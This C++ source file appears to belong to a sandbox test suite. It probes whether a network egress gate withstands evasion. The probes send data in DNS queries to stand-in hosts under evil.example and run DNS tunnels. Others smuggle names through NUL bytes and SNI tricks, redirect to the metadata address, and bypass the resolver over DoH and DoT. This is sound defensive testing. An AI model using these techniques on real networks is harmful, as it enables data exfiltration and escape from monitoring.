// Around the gate by name: names that look allowed, questions that carry data, hellos that say one name and mean
// another.
#include <sys/socket.h>

#include "boundary/network.h"
#include "evasion.h"
#include "families.h"
#include "gate/outside.h"

namespace isola::hostile {

using namespace std::string_literals;
using gate::kRedirectPort, gate::kTlsPort;

Outcome is_answered(const std::string& resolved) {
  return is_address(resolved) ? breach("answered with " + resolved) : contained(resolved);
}

namespace {

// ---- names ----------------------------------------------------------------------------------------------------------

Outcome denied_name(const Args&) { return is_answered(resolve("b.example")); }
Outcome denied_by_tcp(const Args&) { return is_answered(resolve("b.example", 1, true)); }
Outcome rebinding(const Args&) { return greet(resolve("rebind.example")); }
Outcome other_port(const Args&) { return greet(resolve("a.example")); }
Outcome suffix(const Args&) { return is_answered(resolve("a.example.evil.example")); }
Outcome prefix(const Args&) { return is_answered(resolve("evil-a.example")); }
Outcome wildcard_itself(const Args&) { return is_answered(resolve("wild.example")); }
Outcome wildcard_neighbour(const Args&) { return is_answered(resolve("notwild.example")); }
// Below an allowed wildcard, if one believes the end of the name; whoever takes it for a C string looks up b.example.
Outcome unicode_host(const Args&) { return is_answered(resolve("\xef\xbd\x82.wild.example")); }
Outcome nul_host(const Args&) { return is_answered(resolve("b.example\0.wild.example"s)); }

// An allowed page sends us elsewhere, and we follow.
Outcome redirected(const std::string& path) {
  auto address = resolve("a.example");
  if (!is_address(address)) return untried("a.example: " + address);
  auto page = talk_to(address, kRedirectPort, "GET " + path + " HTTP/1.1\r\nHost: a.example\r\n\r\n");
  constexpr std::string_view kBegin = "Location: http://";
  size_t at = page.find(kBegin);
  if (at == std::string::npos) return untried("the page that sends elsewhere did not come: " + page.substr(0, 40));
  at += kBegin.size();
  auto host = page.substr(at, page.find(':', at) - at);
  return greet(is_address(host) ? host : resolve(host));
}
Outcome redirect_to_denied(const Args&) { return redirected("/denied"); }
Outcome redirect_to_metadata(const Args&) { return redirected("/metadata"); }

// ---- questions that carry something: judged by what the name server outside saw
// ---------------------------------------

Outcome ask(const std::string& name, int count, const std::string& server = name_server()) {
  std::string last;
  for (int i = 0; i < count; ++i)
    last = resolve((count > 1 ? "n" + std::to_string(i) + "." : "") + name, 1, false, server);
  return contained(fmt::format("asked {} times, the last answer: {}", count, last));
}
Outcome own_server(const Args&) { return ask("s3cret.evil.example", 1, gate::kNameServer); }
Outcome tunnel_denied(const Args&) { return ask("d4ta.evil.example", 20); }
Outcome tunnel_allowed(const Args&) { return ask("tunnel.example", 400); }
// Below a name that is allowed: 3 labels of nearly all the letters that fit into a name.
Outcome tunnel_long_labels(const Args&) {
  std::string last;
  constexpr int kCount = 60;
  for (int i = 0; i < kCount; ++i) {
    std::string data;
    for (char c : {'x', 'y', 'z'}) data += fmt::format("{}{:02}.", std::string(58, c), i);
    last = resolve(data + "long-d4ta.tunnel.example");
  }
  return contained(fmt::format("asked {} times, the last answer: {}", kCount, last));
}

// ---- TLS: through a name that is allowed, with a hello for one that is not
// --------------------------------------------

Outcome fronted(const std::string& hello, size_t pieces = 0) {
  auto address = resolve("a.example");
  if (!is_address(address)) return untried("a.example: " + address);
  return got(talk_to(address, kTlsPort, hello, pieces));
}

std::string in_records(const std::string& name, size_t each) {
  std::string message = tls_hello(name).substr(5), out;
  for (size_t at = 0; at < message.size(); at += each) {
    auto piece = message.substr(at, each);
    out += "\x16\x03\x01"s + static_cast<char>(piece.size() >> 8) + static_cast<char>(piece.size()) + piece;
  }
  return out;
}
std::string extension(uint16_t kind, const std::string& body) {
  return std::string{static_cast<char>(kind >> 8), static_cast<char>(kind), static_cast<char>(body.size() >> 8),
                     static_cast<char>(body.size())} +
         body;
}

Outcome sni_of_another(const Args&) { return fronted(tls_hello("b.example")); }
Outcome sni_missing(const Args&) { return fronted(tls_hello("")); }
Outcome sni_bytewise(const Args&) { return fronted(tls_hello("b.example"), 1); }
Outcome sni_in_records(const Args&) { return fronted(in_records("b.example", 3)); }
Outcome sni_behind_much(const Args&) {
  return fronted(tls_hello("b.example", extension(0x29, std::string(50000, 'p'))));
}
Outcome sni_with_nul(const Args&) { return fronted(tls_hello("a.example\0.b.example"s)); }
Outcome sni_two_names(const Args&) {
  std::string list = "\0\0\x09"s + "a.example" + "\0\0\x09"s + "b.example";
  return fronted(tls_hello("", extension(0, std::string{'\0', static_cast<char>(list.size())} + list)));
}
Outcome sni_twice(const Args&) {
  std::string other = "\0\x0c\0\0\x09"s + "b.example";
  return fronted(tls_hello("a.example", extension(0, other)));
}
// The shape that browsers send: outer, a suite, a config id, a key of 32 bytes, a payload.
Outcome sni_encrypted(const Args&) {
  std::string body = "\0\0\1\0\1\x2a\0\x20"s + std::string(32, 'k') + "\0\x90"s + std::string(0x90, 'c');
  return fronted(tls_hello("a.example", extension(0xfe0d, body)));
}
Outcome alert_first(const Args&) { return fronted("\x15\x03\x01\x00\x02\x01\x70"s + tls_hello("b.example")); }
// The server asks for another hello, and that one says another name.
Outcome second_hello(bool waits) {
  auto address = resolve("a.example");
  if (!is_address(address)) return untried("a.example: " + address);
  Fd fd = dial(address, gate::kRetryPort);
  std::string first = tls_hello("a.example"), second = tls_hello("b.example"), asked(gate::retry_request().size(), 0);
  if (!waits) first += second;
  (void)!::send(fd.get(), first.data(), first.size(), MSG_NOSIGNAL);
  if (::recv(fd.get(), asked.data(), asked.size(), MSG_WAITALL) != static_cast<ssize_t>(asked.size()))
    return contained("the server's answer did not come");
  if (waits) (void)!::send(fd.get(), second.data(), second.size(), MSG_NOSIGNAL);
  ::shutdown(fd.get(), SHUT_WR);
  auto back = read_to_end(fd);
  return waits ? got(back) : breach("both were taken");
}
Outcome second_of_another(const Args&) { return second_hello(true); }
Outcome second_at_once(const Args&) { return second_hello(false); }
Outcome ssl2(const Args&) { return fronted("\x80\x2e\x01\x03\x01"s + std::string(43, 'x')); }
Outcome too_large(const Args&) {
  std::string much;
  for (uint16_t i = 0; i < 3; ++i) much += extension(static_cast<uint16_t>(0x7f00 + i), std::string(50000, 'p'));
  // Its length says what fits into two bytes: servers that forgive that are the ones to be feared.
  return fronted(tls_hello("b.example", much));
}

// ---- somebody else to ask for addresses: under a policy of names, nobody but the gate
// ---------------------------------

Outcome asked_over_tls(const std::string& address, uint16_t port, const std::string& name) {
  return is_address(address) ? got(talk_to(address, port, tls_hello(name))) : contained(address);
}
Outcome doh_by_name(const Args&) { return asked_over_tls(resolve("dns.google"), kTlsPort, "dns.google"); }
Outcome doh_by_address(const Args&) { return asked_over_tls(gate::kPublicResolver, kTlsPort, ""); }
Outcome dot_by_name(const Args&) {
  return asked_over_tls(resolve("resolver.example"), gate::kDotPort, "resolver.example");
}
Outcome dot_by_address(const Args&) { return asked_over_tls("198.51.100.7", gate::kDotPort, ""); }

constexpr std::string_view kNoSuchName = "the name does not exist", kReset = "the connection is reset";

constexpr Program name_evasion(std::string_view name, std::string_view tries, Outcome (*run)(const Args&),
                               std::string_view means) {
  return {name, "evasion", tries, means, run, Expect::contained, kNeedsOutside};
}
constexpr Program leak(std::string_view name, std::string_view tries, Outcome (*run)(const Args&),
                       std::string_view text, size_t most) {
  Program program{
      name,
      "evasion",
      tries,
      most ? "few of the questions reach a name server outside" : "no question reaches a name server outside",
      run,
      Expect::judged_outside,
      kNeedsOutside};
  program.leaks = text, program.leaks_most = most;
  return program;
}

constexpr Program kNameEvasions[] = {
    name_evasion("denied-name", "asks for a name that is denied", denied_name, kNoSuchName),
    name_evasion("denied-name-by-tcp", "asks for a name that is denied over TCP", denied_by_tcp, kNoSuchName),
    name_evasion("rebinding", "connects to an allowed name that leads to the metadata address", rebinding, kReset),
    name_evasion("alternative-port", "connects to an allowed name at a port that is not", other_port, kReset),
    name_evasion("suffix-trick", "asks for a name that begins with an allowed one", suffix, kNoSuchName),
    name_evasion("prefix-trick", "asks for a name that ends with an allowed one", prefix, kNoSuchName),
    name_evasion("wildcard-itself", "asks for the name above an allowed wildcard", wildcard_itself, kNoSuchName),
    name_evasion("wildcard-neighbour", "asks for a name that ends with a wildcard's, without the dot",
                 wildcard_neighbour, kNoSuchName),
    name_evasion("unicode-host", "asks for a name in wide letters", unicode_host, kNoSuchName),
    name_evasion("nul-host", "asks for a name with a zero byte in it", nul_host, kNoSuchName),
    name_evasion("redirect-to-denied", "follows an allowed page to a denied host", redirect_to_denied, kNoSuchName),
    name_evasion("redirect-to-metadata", "follows an allowed page to the metadata address", redirect_to_metadata,
                 kReset),
    leak("dns-to-a-server-of-ones-own", "sends data in a question to a name server of its own", own_server, "s3cret",
         0),
    leak("dns-tunnel-denied", "sends data in questions below a denied name", tunnel_denied, "d4ta.evil", 0),
    leak("dns-tunnel-long-labels", "sends data in the longest labels below an allowed wildcard", tunnel_long_labels,
         "long-d4ta", 50),
    leak("dns-tunnel-below-a-wildcard", "sends data in hundreds of questions below an allowed wildcard", tunnel_allowed,
         "tunnel.example", 250),
    name_evasion("sni-of-another", "says another name in its TLS hello than it connected to", sni_of_another, kReset),
    name_evasion("sni-missing", "says no name in its TLS hello", sni_missing, kReset),
    name_evasion("sni-byte-by-byte", "says another name, a byte at a time", sni_bytewise, kReset),
    name_evasion("sni-in-many-records", "says another name, in records of three bytes", sni_in_records, kReset),
    name_evasion("sni-behind-much", "says another name behind 50 KB of something else", sni_behind_much, kReset),
    name_evasion("sni-with-nul", "says a name with a zero byte in it", sni_with_nul, kReset),
    name_evasion("sni-two-names", "says two names in one list", sni_two_names, kReset),
    name_evasion("sni-twice", "says a name in each of two extensions", sni_twice, kReset),
    name_evasion("sni-encrypted", "says the name, and perhaps another one encrypted", sni_encrypted, kReset),
    name_evasion("second-hello-of-another", "says another name when the server asks for a second hello",
                 second_of_another, kReset),
    name_evasion("second-hello-at-once", "sends a second hello for another name without being asked", second_at_once,
                 kReset),
    name_evasion("alert-before-hello", "sends an alert in front of its hello", alert_first, kReset),
    name_evasion("dns-over-https", "asks a public resolver over HTTPS", doh_by_name, kNoSuchName),
    name_evasion("dns-over-https-by-address", "asks a public resolver over HTTPS by its address", doh_by_address,
                 kReset),
    name_evasion("dns-over-tls", "asks some resolver over TLS", dot_by_name, kReset),
    name_evasion("dns-over-tls-by-address", "asks some resolver over TLS by its address", dot_by_address, kReset),
    name_evasion("hello-of-ssl2", "sends a hello in the form of SSL 2", ssl2, kReset),
    name_evasion("hello-too-large", "sends a hello of 150 KB", too_large, kReset),
};

}  // namespace

Family name_evasions() { return kNameEvasions; }

}  // namespace isola::hostile
